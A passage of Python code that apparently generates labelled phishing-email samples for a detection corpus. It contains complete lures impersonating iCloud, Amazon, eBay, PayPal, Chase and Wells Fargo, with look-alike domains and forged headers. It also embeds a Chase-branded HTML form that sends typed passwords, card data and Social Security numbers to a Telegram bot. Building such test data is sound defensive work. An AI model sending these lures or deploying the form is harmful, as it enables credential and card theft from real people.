<tr><td align="center" style="padding:10px 30px 30px 30px;"><a href="{link}" style="display:inline-block;background:#0071e3;color:#ffffff;font-size:17px;padding:14px 34px;border-radius:22px;text-decoration:none;">Get 50 GB Free</a></td></tr>
<tr><td align="center" style="padding:0 30px 24px 30px;"><a href="{link}"><img src="https://storage.googleapis.com/icld-st-2291/usage-bar.png" width="420" alt="" style="display:block;border:0;"></a></td></tr>
</table>
<p style="font-family:Arial,sans-serif;font-size:10px;color:#a1a1a6;padding:16px;">If you no longer wish to receive these emails, <a href="mailto:unsubscribe@{dom}?subject=unsubscribe" style="color:#a1a1a6;">unsubscribe here</a>.<br>8 The Green, Suite 4102, Dover, DE 19901</p>
</td></tr></table></body></html>
"""
    hops = [
        dkim(stem, dom, "k1", sent, h="from:to:subject:date:message-id:list-unsubscribe:mime-version:content-type"),
        rcv(f"from [127.0.0.1] (localhost [127.0.0.1])\n\tby {sub} (Postfix) with ESMTPA id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent),
    ]
    headers = f"""From: iCloud <storage@{sub}>
To: {rcpt}
Subject: {bword(subject)}
Date: {rfc(sent)}
Message-ID: <{guid(stem + 'mid')}@{sub}>
List-Unsubscribe: <mailto:unsubscribe@{dom}?subject=unsubscribe>
MIME-Version: 1.0
X-Mailer: Nodemailer (6.9.13; +https://nodemailer.com/)"""
    emit(stem, "phishing",
         "iCloud 'storage full, photos deleted, claim 50 GB free as a loyalty bonus' lure from a throwaway .shop domain with hidden padding text; links go to an HTML page in a Google Cloud Storage bucket that starts a subscription/card scam.",
         Inbound("gmail", rcpt, sent + timedelta(seconds=3), "104.168.139.22", sub, f"bounce-7731@{sub}",
                 dkim=[(dom, "k1", "pass")], dmarc="pass", policy="NONE", hfrom=sub),
         hops, headers, alt(plain, html, bnd(stem)))


def p07_amazon_hold_workers() -> None:
    stem = "b50-phish-amazon-hold-workers"
    rcpt = "g.sandoval_tx@hotmail.com"
    dom = "amazn-secure-notice.com"
    sent = utc(2024, 11, 14, 5, 12, 40)
    link = "https://amz-acct-restore.brisk-lab-7c1e.workers.dev/ap/signin?openid.return_to=https%3A%2F%2Fwww.amazon.com%2Fyour-account&ref_=nav_signin"
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;padding:0;background:#eaeded;">
<table role="presentation" width="100%" cellspacing="0" cellpadding="0" border="0" style="background:#eaeded;"><tr><td align="center" style="padding:20px 0;">
<table role="presentation" width="600" cellspacing="0" cellpadding="0" border="0" style="background:#ffffff;font-family:Arial,sans-serif;font-size:14px;color:#0f1111;">
<tr><td style="padding:18px 24px;border-bottom:1px solid #dddddd;"><span style="font-size:24px;font-weight:bold;letter-spacing:-1px;">amazon</span></td></tr>
<tr><td style="padding:24px 24px 6px 24px;font-size:18px;">Hello,</td></tr>
<tr><td style="padding:6px 24px;line-height:21px;">We've placed a temporary hold on your Amazon account and all pending orders.</td></tr>
<tr><td style="padding:6px 24px;line-height:21px;">We took this action because the billing information you provided did not match the information on file with your card issuer.</td></tr>
<tr><td style="padding:6px 24px;line-height:21px;">To resolve this issue, please verify your information:</td></tr>
<tr><td style="padding:16px 24px;"><a href="{link}" style="display:inline-block;background:#ffd814;border:1px solid #fcd200;border-radius:8px;padding:10px 30px;color:#0f1111;text-decoration:none;font-size:14px;">Verify now</a></td></tr>
<tr><td style="padding:6px 24px;line-height:21px;">If we don't receive the required information within 3 days, your account will be closed and any pending orders will be cancelled. We ask that you not open new accounts as any new accounts will also be put on hold.</td></tr>
<tr><td style="padding:16px 24px 24px 24px;line-height:21px;">Sincerely,<br>Amazon.com</td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#565959;background:#f7f7f7;">&copy;2024 Amazon.com, Inc. or its affiliates. Amazon and all related marks are trademarks of Amazon.com, Inc. or its affiliates. Amazon.com, Inc., 410 Terry Avenue N., Seattle, WA 98109.</td></tr>
</table></td></tr></table></body></html>
"""
    plain = ("Hello,\n\nWe've placed a temporary hold on your Amazon account and all pending orders.\n\n"
             "We took this action because the billing information you provided did not match the information on file with your card issuer.\n\n"
             f"To resolve this issue, please verify your information:\n{link}\n\n"
             "If we don't receive the required information within 3 days, your account will be closed and any pending orders will be cancelled.\n\n"
             "Sincerely,\nAmazon.com\n")
    hops = [
        dkim(stem, dom, "default", sent, h="Content-Type:MIME-Version:Message-ID:Date:Subject:To:From:Sender:Reply-To:Cc:Content-Transfer-Encoding:Content-ID:Content-Description:Resent-Date:Resent-From:Resent-Sender:Resent-To:Resent-Cc:Resent-Message-ID:In-Reply-To:References:List-Id:List-Help:List-Unsubscribe:List-Subscribe:List-Post:List-Owner:List-Archive"),
        rcv(f"from [10.8.0.14] (helo=WIN-3KQ9LDAHBT1)\n\tby mx2.{dom} with esmtpa (Exim 4.97.1)\n\t(envelope-from <account-update@{dom}>)\n\tid 1tBU7k-000Kx9-2F\n\tfor {rcpt}", sent),
    ]
    headers = f"""From: "Amazon.com" <account-update@{dom}>
To: {rcpt}
Subject: Your Amazon account has been placed on hold
Date: {rfc(sent)}
Message-ID: <{hexs(stem + 'mid', 20)}.{digits(stem + 'mid2', 6)}@WIN-3KQ9LDAHBT1>
MIME-Version: 1.0"""
    emit(stem, "phishing",
         "Amazon 'temporary hold on your account and pending orders' from a look-alike domain sending with Exim (SPF/DKIM pass); the Verify button goes to a Cloudflare Workers page that imitates the Amazon sign-in.",
         Inbound("outlook", rcpt, sent + timedelta(seconds=2), "45.144.30.118", f"mx2.{dom}", f"account-update@{dom}",
                 dkim=[(dom, "default", "pass")], dmarc="", hfrom=dom, spam=True, country="RU"),
         hops, headers, alt(plain, html, bnd(stem)))


def p08_amazon_de_qr_ses() -> None:
    stem = "b50-phish-amazon-de-qr"
    rcpt = "m.oberlaender@gmx.net"
    dom = "amazon-konto-hilfe.de"
    sent = utc(2025, 3, 11, 7, 55, 12)
    target = "https://amzn-kundenkonto.de-verifizierung.top/ap/signin?lang=de_DE&ref=qr"
    qr = files.qr_png(target)
    mid, envelope = ses_hops(stem, sent, "eu-west-1")
    plain = ("Amazon.de\n\nGuten Tag,\n\nbei der letzten Abbuchung für Ihre Prime-Mitgliedschaft wurde Ihre Zahlungsmethode abgelehnt. "
             "Um eine Unterbrechung Ihrer Mitgliedschaft zu vermeiden, bestätigen Sie bitte Ihre Zahlungsinformationen.\n\n"
             "Scannen Sie dazu den QR-Code in dieser E-Mail mit der Kamera Ihres Smartphones.\n\n"
             "Vielen Dank\nIhr Amazon.de Kundenservice\n")
    html = f"""<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"></head>
<body style="margin:0;padding:0;font-family:'Amazon Ember',Arial,sans-serif;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table width="580" cellpadding="0" cellspacing="0" border="0" style="color:#0f1111;font-size:14px;line-height:20px;">
<tr><td style="padding:20px 20px 14px 20px;border-bottom:3px solid #ff9900;font-size:22px;font-weight:bold;">amazon<span style="color:#ff9900;">.de</span></td></tr>
<tr><td style="padding:22px 20px 8px 20px;font-size:18px;">Ihre Zahlungsmethode wurde abgelehnt</td></tr>
<tr><td style="padding:8px 20px;">Guten Tag,<br><br>bei der letzten Abbuchung f&uuml;r Ihre Prime-Mitgliedschaft wurde Ihre Zahlungsmethode abgelehnt. Um eine Unterbrechung Ihrer Mitgliedschaft und Ihrer offenen Bestellungen zu vermeiden, best&auml;tigen Sie bitte Ihre Zahlungsinformationen.</td></tr>
<tr><td style="padding:14px 20px 4px 20px;font-weight:bold;">Scannen Sie den QR-Code mit der Kamera Ihres Smartphones:</td></tr>
<tr><td align="center" style="padding:12px 20px;"><img src="cid:qr-{hexs(stem + 'cid', 12)}@amazon" width="180" height="180" alt="QR-Code" style="display:block;border:0;"></td></tr>
<tr><td style="padding:8px 20px;font-size:12px;color:#565959;">Aus Sicherheitsgr&uuml;nden ist der Code 48 Stunden g&uuml;ltig. Nach Ablauf wird Ihr Konto vor&uuml;bergehend eingeschr&auml;nkt.</td></tr>
<tr><td style="padding:18px 20px;">Vielen Dank<br>Ihr Amazon.de Kundenservice</td></tr>
<tr><td style="padding:16px 20px;font-size:11px;color:#565959;border-top:1px solid #dddddd;">Amazon EU S.&agrave; r.l., 38 avenue John F. Kennedy, L-1855 Luxemburg. Diese E-Mail wurde von einer Adresse verschickt, die eingehende E-Mails nicht empfangen kann.</td></tr>
</table></td></tr></table></body></html>
"""
    hops = [
        dkim(stem, dom, "q3xbnh4vq7l4ewcnbofkqgghsvt5odqu", sent, h="From:To:Subject:MIME-Version:Content-Type:Message-ID:Date", c="simple/simple"),
        dkim(stem, "amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv", sent, h="From:To:Subject:MIME-Version:Content-Type:Message-ID:Date:Feedback-ID", c="simple/simple"),
    ]
    headers = f"""From: Amazon.de <kundenservice@{dom}>
To: {rcpt}
Subject: {qword("Ihre Zahlungsmethode wurde abgelehnt – Bestätigung erforderlich")}
MIME-Version: 1.0
Message-ID: <{mid}@eu-west-1.amazonses.com>
Date: {rfc(sent)}
Feedback-ID: ::1.eu-west-1.{b64(stem + 'fb', 30)}=:AmazonSES
X-SES-Outgoing: 2025.03.11-54.240.7.18"""
    body = Multi("related", bnd(stem, "ses", 1), [
        alt(plain, html, bnd(stem, "ses", 2)),
        attachment("image/png", "qr.png", qr, inline=True, cid=f"qr-{hexs(stem + 'cid', 12)}@amazon"),
    ])
    emit(stem, "phishing",
         "German Amazon Prime 'Zahlungsmethode abgelehnt' sent through Amazon SES from a look-alike .de domain (SPF, DKIM and DMARC pass); the only way forward is an inline QR code pointing to a .top phishing host.",
         Inbound("gmx", rcpt, sent + timedelta(seconds=1), "54.240.7.18", "a7-18.smtp-out.eu-west-1.amazonses.com", envelope,
                 dkim=[(dom, "q3xbnh4vq7l4ewcnbofkqgghsvt5odqu", "pass"), ("amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv", "pass")],
                 dmarc="pass", policy="NONE", hfrom=dom),
         hops, headers, body)


def p09_ebay_wordpress_phpmailer() -> None:
    stem = "b50-phish-ebay-hold-wpmailer"
    rcpt = "pete.hollis@yahoo.co.uk"
    dom = "bramblewoodcottages.co.uk"
    sent = datetime(2024, 7, 2, 19, 30, 14, tzinfo=LONDON).astimezone(UTC)
    host = "lon-shared-14.cloudhostuk.net"
    link = f"https://signin.ebay.co.uk.verify-item-hold.shop/ws/eBayISAPI.dll?SignIn&ru=https%3A%2F%2Fwww.ebay.co.uk%2Fmye%2Fmyebay&sid={hexs(stem + 'sid', 16)}"
    plain = ("eBay\n\nDear member,\n\nWe noticed unusual sign-in activity on your eBay account from a new device (Lagos, NG).\n"
             "To protect you, we have temporarily placed your account on hold and restricted buying and selling.\n\n"
             f"Please confirm your identity to restore full access:\n{link}\n\n"
             "If you do not confirm within 48 hours your account will be permanently suspended.\n\nRegards,\neBay Trust & Safety\n")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:'Helvetica Neue',Helvetica,Arial,sans-serif;font-size:14px;color:#111820;">
<table width="600" align="center" cellpadding="0" cellspacing="0">
<tr><td style="padding:20px 0;font-size:34px;font-weight:bold;letter-spacing:-2px;"><span style="color:#e53238;">e</span><span style="color:#0064d2;">b</span><span style="color:#f5af02;">a</span><span style="color:#86b817;">y</span></td></tr>
<tr><td style="padding:8px 0;font-size:20px;font-weight:bold;">Your account is on hold</td></tr>
<tr><td style="padding:8px 0;line-height:21px;">Dear member,<br><br>We noticed unusual sign-in activity on your eBay account from a new device (Lagos, NG). To protect you, we have temporarily placed your account on hold and restricted buying and selling.</td></tr>
<tr><td style="padding:20px 0;"><a href="{link}" style="background:#3665f3;color:#ffffff;padding:12px 28px;border-radius:24px;text-decoration:none;font-weight:bold;">Confirm your identity</a></td></tr>
<tr><td style="padding:8px 0;line-height:21px;">If you do not confirm within 48 hours your account will be permanently suspended.</td></tr>
<tr><td style="padding:8px 0;line-height:21px;">Regards,<br>eBay Trust &amp; Safety</td></tr>
<tr><td style="padding:24px 0;font-size:11px;color:#707070;border-top:1px solid #e5e5e5;">Copyright &copy; 1995-2024 eBay Inc. All Rights Reserved. eBay (UK) Limited, 1 More London Place, London, SE1 2AF.</td></tr>
</table></body></html>
"""
    hops = [
        dkim(stem, dom, "default", sent, h="Content-Type:MIME-Version:Message-ID:Subject:Reply-To:From:To:Date:Sender:Cc:Content-Transfer-Encoding:Content-ID:Content-Description"),
        rcv(f"from [102.89.33.176] (port=44718 helo=localhost)\n\tby {host} with esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n\t(Exim 4.96.2)\n\t(envelope-from <wordpress@{dom}>)\n\tid 1sOh2V-0004Ta-1p\n\tfor {rcpt}", sent, LONDON),
    ]
    b = bnd(stem, "php")
    headers = f"""Date: {rfc(sent, LONDON)}
To: {rcpt}
From: eBay Trust & Safety <wordpress@{dom}>
Reply-To: eBay Trust & Safety <wordpress@{dom}>
Subject: Your account is on hold - we noticed unusual sign-in activity
Message-ID: <{alnum(stem + 'mid', 43)}@{dom}>
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0
X-AntiAbuse: This header was added to track abuse, please include it with any abuse report
X-AntiAbuse: Primary Hostname - {host}
X-AntiAbuse: Original Domain - yahoo.co.uk
X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]
X-AntiAbuse: Sender Address Domain - {dom}
X-Get-Message-Sender-Via: {host}: authenticated_id: wordpress@{dom}
X-Authenticated-Sender: {host}: wordpress@{dom}
X-Source: 
X-Source-Args: 
X-Source-Dir: """
    emit(stem, "phishing",
         "eBay 'account on hold after unusual sign-in' sent with PHPMailer from the WordPress mailbox of a compromised holiday-cottage site on shared cPanel hosting; the link uses an ebay.co.uk prefix on a .shop domain.",
         Inbound("yahoo", rcpt, sent + timedelta(seconds=2), "185.151.30.147", host, f"wordpress@{dom}",
                 dkim=[(dom, "default", "pass")], dmarc="", hfrom=dom),
         hops, headers, alt(plain, html, b))


def p10_paypal_invoice_callback() -> None:
    stem = "b50-phish-paypal-invoice-callback"
    rcpt = "dwaynecarter.jr@gmail.com"
    sent = utc(2025, 2, 17, 19, 3, 44)
    inv = "INV2-7KQ3-RZ8D-WN4C-2XHP"
    link = f"https://www.paypal.com/invoice/p/#{inv}"
    note = ("Your PayPal account has been charged $599.99 USD for the purchase of Bitcoin (BTC). If you did not authorize this "
            "transaction, please contact PayPal Billing Support immediately at +1 (808) 301-4472 to cancel and receive a full "
            "refund within 24 hours.")
    plain = (f"Geek Support Team sent you an invoice for $599.99 USD\n\nDue on receipt\n\nNote from seller:\n{note}\n\n"
             f"View and Pay Invoice: {link}\n\nInvoice details\nAmount requested: $599.99 USD\nInvoice number: 0047\n\n"
             "Don't recognize this invoice? Report this invoice\n\nPayPal\nHelp & Contact | Security\n"
             "PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.\n")
    html = f"""<!DOCTYPE html><html dir="ltr"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="initial-scale=1.0,minimum-scale=1.0,maximum-scale=1.0,width=device-width,height=device-height,target-densitydpi=device-dpi,user-scalable=no"><title>PayPal</title></head>
<body style="margin:0;padding:0;background:#f2f2f2;">
<table border="0" cellpadding="0" cellspacing="0" width="100%" style="background:#f2f2f2;"><tr><td align="center" style="padding:20px 0;">
<table border="0" cellpadding="0" cellspacing="0" width="600" style="background:#ffffff;font-family:'PayPal Sans Text',Helvetica Neue,Arial,sans-serif;color:#001435;">
<tr><td style="padding:30px 40px 10px 40px;"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="48" height="48" alt="PayPal" style="display:block;border:0;"></td></tr>
<tr><td style="padding:10px 40px;font-size:26px;line-height:34px;font-weight:bold;">Geek Support Team sent you an invoice for $599.99 USD</td></tr>
<tr><td style="padding:0 40px 10px 40px;font-size:15px;color:#545d68;">Due on receipt</td></tr>
<tr><td style="padding:10px 40px;"><table width="100%" cellpadding="0" cellspacing="0" style="background:#f7f9fa;border-radius:8px;"><tr><td style="padding:16px;font-size:14px;line-height:20px;"><b>Note from seller</b><br>{note}</td></tr></table></td></tr>
<tr><td style="padding:20px 40px;"><a href="{link}" style="display:inline-block;background:#0070e0;color:#ffffff;font-size:16px;font-weight:bold;padding:12px 32px;border-radius:24px;text-decoration:none;">View and Pay Invoice</a></td></tr>
<tr><td style="padding:10px 40px;font-size:14px;line-height:22px;"><b>Invoice details</b><br>Amount requested: $599.99 USD<br>Invoice number: 0047</td></tr>
<tr><td style="padding:10px 40px 30px 40px;font-size:13px;color:#545d68;">Don't recognize this invoice? <a href="https://www.paypal.com/invoice/p/#{inv}/report" style="color:#0070e0;">Report this invoice</a></td></tr>
<tr><td style="padding:20px 40px;font-size:11px;color:#6c7378;background:#f7f9fa;"><a href="https://www.paypal.com/us/smarthelp/home" style="color:#0070e0;">Help &amp; Contact</a> | <a href="https://www.paypal.com/us/security" style="color:#0070e0;">Security</a><br><br>PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name. <a href="https://www.paypal.com/us/security/learn-about-fake-messages" style="color:#0070e0;">Learn to identify phishing</a><br><br>&copy; 1999-2025 PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.<br>PayPal PPX000601:{hexs(stem + 'ppx', 12)}</td></tr>
</table></td></tr></table>
<img src="https://t.paypal.com/ts?v=1&amp;e=EmailOpen&amp;eid={hexs(stem + 'eid', 24)}" width="1" height="1" alt="" style="display:block;border:0;">
</body></html>
"""
    hops = [
        dkim(stem, "paypal.com", "pp-dkim1", sent, h="Date:Message-ID:From:To:Subject:MIME-Version:Content-Type", c="relaxed/relaxed", extra="i=@paypal.com", q=True),
        rcv(f"from ccg01mail{digits(stem + 'ccg', 2)}.phx.paypal.com (ccg01mail{digits(stem + 'ccg', 2)}.phx.paypal.com [10.75.{digits(stem + 'pi', 2)}.{digits(stem + 'pj', 2)}])\n\tby mx0.slc.paypal.com (Postfix) with ESMTP id {alnum(stem + 'qid', 12, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent, PACIFIC),
    ]
    headers = f"""Date: {rfc(sent, PACIFIC)}
Message-ID: <{hexs(stem + 'mid', 12)}.{digits(stem + 'mid2', 13)}@paypal.com>
From: "Geek Support Team via PayPal" <invoicing@paypal.com>
To: {rcpt}
Subject: Invoice from Geek Support Team (0047)
MIME-Version: 1.0
X-Email-Type-Id: PPX000601
X-MaxCode-Template: PPX000601
X-PP-REQUESTED-TIME: {ts(sent) * 1000 - 1412}
X-PP-Email-transmission-Id: {guid(stem + 'tid')}
PP-Correlation-Id: {hexs(stem + 'corr', 13)}
X-Campaign-Id: invoicing"""
    emit(stem, "phishing",
         "Genuine PayPal invoice (paypal.com, SPF/DKIM/DMARC pass) abused by a scammer whose seller note claims a $599.99 Bitcoin charge and tells the victim to phone a fake 'PayPal Billing Support' number: a callback scam riding real infrastructure.",
         Inbound("gmail", rcpt, sent + timedelta(seconds=2), "173.0.84.226", "mx0.slc.paypal.com", "invoicing@paypal.com",
                 dkim=[("paypal.com", "pp-dkim1", "pass")], dmarc="pass", policy="REJECT", hfrom="paypal.com"),
         hops, headers, alt(plain, html, bnd(stem)))


def p11_paypal_de_mailgun_ipfs() -> None:
    stem = "b50-phish-paypal-de-ipfs"
    rcpt = "juergen.wollny@web.de"
    sub = "mg.kontoservice-hilfe.net"
    sent = utc(2024, 10, 8, 12, 17, 0)
    cid = "bafybei" + alnum(stem + "cid", 52, "abcdefghijklmnopqrstuvwxyz234567")
    link = f"https://{cid}.ipfs.dweb.link/de/konto/bestaetigen.html#{b64url(rcpt, 12)}"
    plain = ("PayPal\n\nHallo Jürgen Wollny,\n\nwir haben ungewöhnliche Aktivitäten in Ihrem PayPal-Konto festgestellt. "
             "Zu Ihrem Schutz haben wir den Zugriff auf einige Funktionen vorübergehend eingeschränkt.\n\n"
             "Um die Einschränkung aufzuheben, bestätigen Sie bitte Ihre Angaben:\n" + link + "\n\n"
             "Fall-ID: PP-008-241-907-315\n\nViele Grüße\nIhr PayPal-Team\n")
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f5f7fa;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 8px;">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif;color:#2c2e2f;font-size:15px;line-height:22px;">
<tr><td style="padding:28px 36px 8px 36px;font-size:26px;font-weight:bold;color:#003087;font-style:italic;">Pay<span style="color:#009cde;">Pal</span></td></tr>
<tr><td style="padding:16px 36px 4px 36px;font-size:20px;font-weight:bold;">Ihr Konto wurde eingeschr&auml;nkt</td></tr>
<tr><td style="padding:8px 36px;">Hallo J&uuml;rgen Wollny,<br><br>wir haben ungew&ouml;hnliche Aktivit&auml;ten in Ihrem PayPal-Konto festgestellt. Zu Ihrem Schutz haben wir den Zugriff auf einige Funktionen vor&uuml;bergehend eingeschr&auml;nkt.</td></tr>
<tr><td style="padding:8px 36px;">Um die Einschr&auml;nkung aufzuheben, best&auml;tigen Sie bitte Ihre Angaben. Dies dauert nur wenige Minuten.</td></tr>
<tr><td style="padding:20px 36px;"><a href="{link}" style="background:#0070ba;color:#ffffff;padding:12px 30px;border-radius:25px;text-decoration:none;font-weight:bold;">Jetzt best&auml;tigen</a></td></tr>
<tr><td style="padding:8px 36px;font-size:13px;color:#6c7378;">Fall-ID: PP-008-241-907-315</td></tr>
<tr><td style="padding:8px 36px 28px 36px;">Viele Gr&uuml;&szlig;e<br>Ihr PayPal-Team</td></tr>
<tr><td style="padding:16px 36px;font-size:11px;color:#9da3a6;background:#f5f7fa;">PayPal (Europe) S.&agrave; r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg</td></tr>
</table></td></tr></table>
<img width="1px" height="1px" alt="" src="http://email.{sub}/o/eJ{b64url(stem + 'open', 90)}"></body></html>
"""
    hops = [
        dkim(stem, sub, "smtp", sent, h="Content-Transfer-Encoding:Content-Type:MIME-Version:To:To:From:From:Subject:Subject:Message-Id:Date:Sender:Sender", extra=f"i=@{sub}", q=True),
        f"X-Mailgun-Sending-Ip: 159.135.228.68",
        f"X-Mailgun-Sid: WyI{b64(stem + 'sid', 36)}",
        f"Received: by {hexs(stem + 'mgh', 32)}.mailgun.org with HTTP id {hexs(stem + 'mghid', 24)}; {sent.strftime('%a, %d %b %Y %H:%M:%S')} GMT",
        f"X-Mailgun-Batch-Id: {hexs(stem + 'batch', 24)}",
    ]
    headers = f"""Content-Transfer-Encoding: quoted-printable
Date: {sent.strftime('%a, %d %b %Y %H:%M:%S')} +0000
From: PayPal <service@{sub}>
Message-Id: <{digits(stem + 'mid', 14)}.{digits(stem + 'mid2', 19)}@{sub}>
Mime-Version: 1.0
Sender: service@{sub}
Subject: {qword("Ihr PayPal-Konto wurde eingeschränkt")}
To: {rcpt}"""
    headers = headers.replace("Content-Transfer-Encoding: quoted-printable\n", "")
    emit(stem, "phishing",
         "German PayPal 'Konto eingeschränkt' sent through Mailgun from a throwaway kontoservice-hilfe.net subdomain (SPF/DKIM pass, no DMARC) addressing the victim by name; the button opens a credential page pinned on IPFS behind the dweb.link gateway.",
         Inbound("webde", rcpt, sent + timedelta(seconds=2), "159.135.228.68", "m228-68.mailgun.net", f"bounce+8f3a12.7c19e4-juergen.wollny=web.de@{sub}",
                 dkim=[(sub, "smtp", "pass")], dmarc="", hfrom=sub),
         hops, headers, alt(plain, html, bnd(stem)))


def p12_chase_html_attachment() -> None:
    stem = "b50-phish-chase-html-attachment"
    rcpt = "jordan.whitfield1987@outlook.com"
    dom = "brightlinedentalcare.com"
    sender = f"accounting@{dom}"
    sent = utc(2025, 4, 22, 13, 46, 18)
    bot = f"{digits(stem + 'bot', 10)}:AAH{alnum(stem + 'tok', 32, ALNUM + '_-')}"
    form = f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>Chase Online - Secure Message</title>
<link rel="icon" href="https://www.chase.com/etc/designs/chase-ux/favicon.ico">
<style>body{{margin:0;font-family:"Open Sans",Arial,sans-serif;background:#f3f5f7;color:#414042}}.hdr{{background:#117aca;padding:18px 24px;color:#fff;font-size:22px;font-weight:bold;letter-spacing:2px}}
.box{{max-width:420px;margin:40px auto;background:#fff;padding:30px;border-radius:4px;box-shadow:0 1px 4px rgba(0,0,0,.15)}}label{{display:block;font-size:13px;margin:14px 0 4px}}
input{{width:100%;padding:10px;border:1px solid #b9c0c7;border-radius:3px;box-sizing:border-box}}button{{margin-top:20px;width:100%;padding:12px;background:#117aca;border:0;color:#fff;font-size:15px;border-radius:3px}}</style></head>
<body><div class="hdr">CHASE &#9634;</div>
<div class="box"><h2 style="font-size:20px;margin-top:0">Verify your identity to read this message</h2>
<p style="font-size:13px">For your security, this secure message is only available after you confirm your account details.</p>
<form id="f"><label>Username</label><input name="u" required><label>Password</label><input name="p" type="password" required>
<label>Card number</label><input name="c" inputmode="numeric" required><label>Expiration (MM/YY)</label><input name="e" required>
<label>CVV</label><input name="v" inputmode="numeric" required><label>Social Security Number</label><input name="s" required>
<button type="submit">Continue</button></form></div>
<script>
var _t=atob("{base64.b64encode(bot.encode()).decode()}"),_c="{digits(stem + 'chat', 10)}";
document.getElementById("f").addEventListener("submit",function(ev){{ev.preventDefault();var d=new FormData(this),m="CHASE\\n";
d.forEach(function(v,k){{m+=k+": "+v+"\\n"}});
fetch("https://api.telegram.org/bot"+_t+"/sendMessage",{{method:"POST",headers:{{"Content-Type":"application/json"}},body:JSON.stringify({{chat_id:_c,text:m}})}})
.then(function(){{window.location.href="https://www.chase.com/"}});}});
</script></body></html>
"""
    hops, mid, tix = outlook_sent(stem, sent, dom)
    hops[2] = (f"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass\n smtp.mailfrom={dom}; dmarc=pass action=none\n"
               f" header.from={dom}; dkim=pass header.d={dom}; arc=none")
    paragraphs = ["Dear Customer,", "<br>",
                  "We have detected unusual activity on your Chase account and a secure message has been issued regarding this matter.",
                  "<br>", "Please download and open the attached secure message to review the details and verify your information. "
                  "Failure to do so within 24 hours may result in a temporary restriction of your account.", "<br>",
                  "Thank you,", "Chase Fraud Prevention Department"]
    plain = "\n".join(p if p != "<br>" else "" for p in paragraphs) + "\n"
    headers = f"""From: Chase Fraud Prevention <{sender}>
To: "{rcpt}" <{rcpt}>
Subject: Secure Message: Important information about your account
Thread-Topic: Secure Message: Important information about your account
Thread-Index: {tix}
Date: {rfc(sent)}
Message-ID: {mid}
{outlook_sent_tail(stem, attach=True)}
MIME-Version: 1.0"""
    body = Multi("mixed", bnd(stem, "outlook", 1), [
        alt(plain, outlook_html(paragraphs), bnd(stem, "outlook", 2)),
        attachment("text/html", "Chase_SecureMessage_0422.html", form.encode()),
    ])
    emit(stem, "phishing",
         "Chase 'secure message' sent from the hijacked Microsoft 365 mailbox of a dental practice (all authentication passes for that domain); the attached HTML file is a local Chase login and card form that posts what is typed to a Telegram bot.",
         Inbound("outlook", rcpt, sent + timedelta(seconds=3), "40.107.243.119", "mail-dm6nam12on2119.outbound.protection.outlook.com", sender,
                 helo="NAM12-DM6-obe.outbound.protection.outlook.com",
                 dkim=[(dom, "selector1", "pass")], dmarc="pass", policy="NONE", hfrom=dom),
         hops, headers, body)


def p13_wellsfargo_google_sites() -> None:
    stem = "b50-phish-wellsfargo-googlesites"
    rcpt = "sharonlee1961@aol.com"
    dom = "wf-securemessages.com"
    sent = utc(2024, 9, 12, 15, 20, 51)
    link = "https://sites.google.com/view/wf-msgcenter-2291/home"
    plain = ("Wells Fargo Online\n\nYou have 1 new secure message\n\nA new secure message is waiting in your Message & Alerts center.\n\n"
             "Subject: Account verification required\nReceived: 09/12/2024\n\n"
             f"Sign on to view your message:\n{link}\n\nPlease do not reply to this automated email.\n")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head>
<body style="margin:0;background:#f4f0ed;">
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#f4f0ed"><tr><td align="center" style="padding:20px 0;">
<table width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff" style="font-family:Verdana,Arial,sans-serif;font-size:13px;color:#3b3331;">
<tr><td bgcolor="#d71e28" style="padding:14px 20px;color:#ffffff;font-size:18px;font-weight:bold;">WELLS FARGO</td></tr>
<tr><td bgcolor="#ffcd41" style="height:4px;line-height:4px;font-size:1px;">&nbsp;</td></tr>
<tr><td style="padding:24px 20px 6px 20px;font-size:19px;">You have 1 new secure message</td></tr>
<tr><td style="padding:6px 20px;line-height:19px;">A new secure message is waiting in your Message &amp; Alerts center.</td></tr>
<tr><td style="padding:10px 20px;"><table cellpadding="6" cellspacing="0" style="border:1px solid #d6d0cc;font-size:12px;"><tr><td><b>Subject:</b></td><td>Account verification required</td></tr><tr><td><b>Received:</b></td><td>09/12/2024</td></tr></table></td></tr>
<tr><td style="padding:16px 20px;"><a href="{link}" style="background:#d71e28;color:#ffffff;padding:10px 22px;text-decoration:none;font-weight:bold;">Sign On to View</a></td></tr>
<tr><td style="padding:20px;font-size:10px;color:#787070;border-top:1px solid #e0dcd9;">Please do not reply to this automated email.<br><br>{hexs(stem + 'ref', 8)}-{hexs(stem + 'ref2', 4)}-{hexs(stem + 'ref3', 4)}</td></tr>
</table></td></tr></table></body></html>
"""
    hops = [
